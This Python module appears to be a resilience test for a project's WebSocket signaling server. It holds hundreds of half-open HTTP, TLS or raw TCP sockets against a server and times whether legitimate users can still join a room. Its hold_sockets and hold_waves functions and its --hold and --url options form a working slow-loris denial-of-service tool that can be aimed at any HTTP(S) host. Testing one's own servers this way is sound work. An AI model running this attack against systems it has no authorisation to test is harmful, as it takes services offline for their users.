"""Slow-loris check of the signaling server: hold many half-open sockets against it (a partial
HTTP request, then one more header line every few seconds, never finished) and time how long a
legitimate expert and follower take to join a room meanwhile.

    python -m humantele.signaling.slowloris --sockets 300 --sources 30 [--fd-limit 256]
    python -m humantele.signaling.slowloris --url ws://host:port/ws   # a running server
                                                                       # (token: $HUMANTELE_TOKEN)
    python -m humantele.signaling.slowloris --hold 127.0.0.1:8766 --mode tls --sockets 600 \
        --sources 200 --seconds 20        # only hold sockets against a page (http, tls, tcp)

:func:`hold_sockets` holds them against any HTTP server, also over TLS (the daemons' pages:
tests/web/test_pages_slowloris.py).

Without ``--url`` it starts ``humantele signal`` in a child process on a free loopback port with
a random token (``--fd-limit`` lowers the child's descriptor limit, as in a small container)
and reports the child's log too. The sockets come from ``--sources`` loopback addresses
(127.0.0.2, 127.0.0.3, ...), the legitimate pair from 127.0.0.1. Prints one JSON object.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import resource
import secrets
import ssl
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, field
from typing import IO
from urllib.parse import urlsplit

from humantele.signaling.client import SignalingClient, SignalingError
from humantele.signaling.messages import TOKEN_ENV

PARTIAL_REQUEST = b"GET /ws HTTP/1.1\r\nHost: signaling\r\n"
TRICKLE = b"X-a: b\r\n"


def source_address(i: int, sources: int) -> str:
    """The loopback source address of held socket ``i`` (127.0.0.2 onwards)."""
    n = 2 + i % sources
    return f"127.0.{n // 256}.{n % 256}"


@dataclass
class HeldSockets:
    """Half-open connections kept against a server; ``open`` counts those the server has not
    closed (yet)."""

    opened: int = 0
    failed: int = 0
    closed_by_server: int = 0
    _tasks: list[asyncio.Task] = field(default_factory=list)

    @property
    def open(self) -> int:
        return self.opened - self.closed_by_server

    async def close(self) -> None:
        for t in self._tasks:
            t.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)


def _client_tls() -> ssl.SSLContext:
    """A client TLS context that takes any certificate (the attacker does not care)."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


async def _hold_one(
    held: HeldSockets,
    host: str,
    port: int,
    source: str,
    interval_s: float,
    mode: str = "http",
    request: bytes = PARTIAL_REQUEST,
) -> None:
    tls = _client_tls() if mode == "tls" else None
    try:
        reader, writer = await asyncio.open_connection(
            host, port, local_addr=(source, 0), ssl=tls,
            ssl_handshake_timeout=30.0 if tls else None,
        )  # fmt: skip
    except (OSError, ssl.SSLError, TimeoutError):
        held.failed += 1
        return
    held.opened += 1
    try:
        if mode != "tcp":  # "tcp": connect and say nothing (not even a TLS ClientHello)
            writer.write(request)
        while True:
            # a closed (or reset) connection ends the read; otherwise trickle one more line
            with contextlib.suppress(TimeoutError):
                if not await asyncio.wait_for(reader.read(1024), interval_s):
                    break
            if mode != "tcp":
                writer.write(TRICKLE)
                await writer.drain()
    except (OSError, ssl.SSLError):
        pass
    finally:
        writer.close()
    held.closed_by_server += 1


async def hold_sockets(
    host: str,
    port: int,
    n: int,
    *,
    sources: int = 1,
    interval_s: float = 5.0,
    mode: str = "http",
    request: bytes = PARTIAL_REQUEST,
) -> HeldSockets:
    """Open ``n`` half-open connections from ``sources`` loopback addresses; return once every
    connection attempt has been made (they stay held until :meth:`HeldSockets.close`).
    ``mode``: ``http`` (a partial request, one more header line every ``interval_s``),
    ``tls`` (the same inside TLS: a page served over https), ``tcp`` (connect, send
    nothing: against TLS, a handshake that never starts)."""
    if mode not in ("http", "tls", "tcp"):
        raise ValueError(f"mode {mode!r}: http, tls or tcp")
    held = HeldSockets()
    for i in range(n):
        task = asyncio.create_task(
            _hold_one(held, host, port, source_address(i, sources), interval_s, mode, request)
        )
        held._tasks.append(task)
    deadline = time.monotonic() + 30.0
    while held.opened + held.failed < n and time.monotonic() < deadline:
        await asyncio.sleep(0.01)
    return held


async def pair_join_time(
    url: str, token: str, room: str, *, timeout_s: float = 60.0, ca_file: str | None = None
) -> float:
    """Seconds until an expert and a follower have both joined ``room`` (each retries every
    0.5 s, as a link would); TimeoutError after ``timeout_s``."""

    async def one(role: str) -> SignalingClient:
        while True:
            client = SignalingClient(url, room, role, token, ca_file=ca_file, connect_timeout_s=5)
            try:
                await client.join()
                return client
            except SignalingError:
                await asyncio.sleep(0.5)

    t0 = time.monotonic()
    expert, follower = await asyncio.wait_for(
        asyncio.gather(one("expert"), one("follower")), timeout_s
    )
    elapsed = time.monotonic() - t0
    await expert.close()
    await follower.close()
    return elapsed


async def measure(
    url: str, token: str, *, sockets: int, sources: int, settle_s: float = 1.0
) -> dict[str, object]:
    """Hold ``sockets`` half-open sockets against ``url`` and time a pair's join."""
    parts = urlsplit(url)
    assert parts.hostname is not None and parts.port is not None
    held = await hold_sockets(parts.hostname, parts.port, sockets, sources=sources)
    await asyncio.sleep(settle_s)  # let the server refuse what it refuses
    held_at_join = held.open
    try:
        join_s: float | None = await pair_join_time(url, token, f"loris{secrets.token_hex(3)}")
    except TimeoutError:
        join_s = None
    result = {
        "sockets": sockets,
        "sources": sources,
        "held_when_joining": held_at_join,
        "connect_failed": held.failed,
        "pair_join_s": None if join_s is None else round(join_s, 3),
    }
    await held.close()
    return result


def start_server(fd_limit: int | None, token: str, log: IO[str]) -> tuple[subprocess.Popen, str]:
    """``humantele signal`` in a child process (descriptor limit ``fd_limit``) on a free
    loopback port, logging to the file ``log``; the process and its URL."""

    def limit() -> None:
        if fd_limit is not None:
            resource.setrlimit(resource.RLIMIT_NOFILE, (fd_limit, fd_limit))

    env = {**os.environ, TOKEN_ENV: token, "PYTHONUNBUFFERED": "1"}
    proc = subprocess.Popen(
        [sys.executable, "-m", "humantele", "signal", "--port", "0"],
        stdout=subprocess.PIPE,
        stderr=log,  # a file: a flood of log lines must not block the server on a full pipe
        env=env,
        preexec_fn=limit,
        text=True,
    )
    line = proc.stdout.readline() if proc.stdout is not None else ""
    if "listening on" not in line:
        proc.kill()
        raise RuntimeError("the signaling server did not start (see its log)")
    return proc, line.rsplit(" ", 1)[1].strip()


async def hold_waves(
    host: str,
    port: int,
    n: int,
    *,
    sources: int,
    mode: str,
    seconds: float,
    settle_s: float = 60.0,
) -> dict[str, int]:
    """A wave of ``n`` half-open sockets every second for ``seconds`` (those the server closed
    are replaced, as an attacker would); then up to ``settle_s`` for the server to close the
    rest. The counts: opened, failed (refused, reset in the TLS handshake), still open."""
    end = time.monotonic() + seconds
    waves: list[HeldSockets] = []
    while time.monotonic() < end:
        waves.append(await hold_sockets(host, port, n, sources=sources, mode=mode))
        await asyncio.sleep(1.0)
    settle = time.monotonic() + settle_s
    while any(w.open for w in waves) and time.monotonic() < settle:
        await asyncio.sleep(0.2)
    result = {
        "waves": len(waves),
        "opened": sum(w.opened for w in waves),
        "failed": sum(w.failed for w in waves),
        "still_open": sum(w.open for w in waves),
    }
    for w in waves:
        await w.close()
    return result


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m humantele.signaling.slowloris")
    parser.add_argument("--url", help="attack a running server (token from $HUMANTELE_TOKEN)")
    parser.add_argument(
        "--hold", metavar="HOST:PORT",
        help="only hold waves of half-open sockets against any HTTP(S) server (a page) for "
        "--seconds; prints what the server closed",
    )  # fmt: skip
    parser.add_argument("--mode", default="http", choices=("http", "tls", "tcp"))
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--sockets", type=int, default=300)
    parser.add_argument("--sources", type=int, default=1, help="loopback source addresses")
    parser.add_argument("--fd-limit", type=int, help="descriptor limit of the child server")
    args = parser.parse_args(argv)
    if args.hold:
        host, _, port = args.hold.rpartition(":")
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # the attacker's own sockets
        result = asyncio.run(
            hold_waves(host, int(port), args.sockets, sources=args.sources, mode=args.mode,
                       seconds=args.seconds)
        )  # fmt: skip
        print(json.dumps(result))
        return 0
    if args.url:
        token = os.environ.get(TOKEN_ENV, "")
        result = asyncio.run(measure(args.url, token, sockets=args.sockets, sources=args.sources))
        print(json.dumps(result))
        return 0
    token = secrets.token_urlsafe(16)
    with tempfile.TemporaryFile("w+") as log:
        proc, url = start_server(args.fd_limit, token, log)
        try:
            result = asyncio.run(measure(url, token, sockets=args.sockets, sources=args.sources))
        finally:
            proc.terminate()
            proc.communicate(timeout=30)
        log.seek(0)
        text = log.read()
    result["fd_limit"] = args.fd_limit
    result["server_log_lines"] = len(text.splitlines())
    result["server_tracebacks"] = text.count("Traceback")
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
